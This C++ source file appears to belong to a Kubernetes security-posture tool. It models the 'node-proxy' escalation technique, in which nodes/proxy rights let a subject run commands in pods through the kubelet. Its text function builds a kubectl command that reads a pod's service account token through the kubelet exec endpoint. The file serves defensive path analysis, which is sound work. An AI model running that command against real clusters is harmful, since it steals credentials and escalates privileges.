#include "graph/escalation/techniques/all.h"
#include "graph/escalation/text.h"

#include <fmt/format.h>

namespace nsposture::escalation {

namespace {

// Nodes are cluster-scoped, so a RoleBinding never gives this. `get` is enough: the kubelet runs a
// command on a GET that becomes a WebSocket.
void apply(const Evaluation& at) {
  for (const auto right : {kGetNodeProxy, kCreateNodeProxy}) {
    Proof any;
    if (!at.rights.need_any(any, right, kCluster)) continue;
    at.sink.emit({NodeType::NodePods, kNone, 0}, any, {});
    return;
  }
  for (std::uint32_t node = 0; node < at.world.nodes().size(); ++node) {
    const auto& name = at.world.nodes()[node];
    Proof proof;
    if (!at.rights.need(proof, kGetNodeProxy, kCluster, name) &&
        !at.rights.need(proof, kCreateNodeProxy, kCluster, name)) {
      continue;
    }
    at.sink.emit({NodeType::NodePods, node, 0}, proof, name);
  }
}

StepText text(const StepView& view) {
  const auto account =
      view.world.find_account(view.world.find_scope(view.account_ns), view.account);
  for (const auto& pod : view.world.pods()) {
    if (pod.account != account || pod.node == kNone) continue;
    const auto& node = view.world.nodes()[pod.node];
    if (!view.edge.note.empty() && view.edge.note != node) continue;
    return {fmt::format("{} get --raw {}", view.kubectl,
                        shell_word(fmt::format(
                            "/api/v1/nodes/{}/proxy/exec/{}/{}/CONTAINER?command=cat&command=/var/"
                            "run/secrets/kubernetes.io/serviceaccount/token&output=1",
                            node, view.account_ns, pod.name))),
            "nodes/proxy reaches the kubelet, which runs commands in every pod of the node without "
            "asking or logging (the request is made as a WebSocket)"};
  }
  return {};
}

}  // namespace

Technique node_proxy() {
  return {{"node-proxy", "Run a command through the kubelet", "T1609", "5.1.11"},
          Takes::Reading,
          11,
          kAtCluster,
          {kGetNodeProxy, kCreateNodeProxy},
          apply,
          text};
}

}  // namespace nsposture::escalation
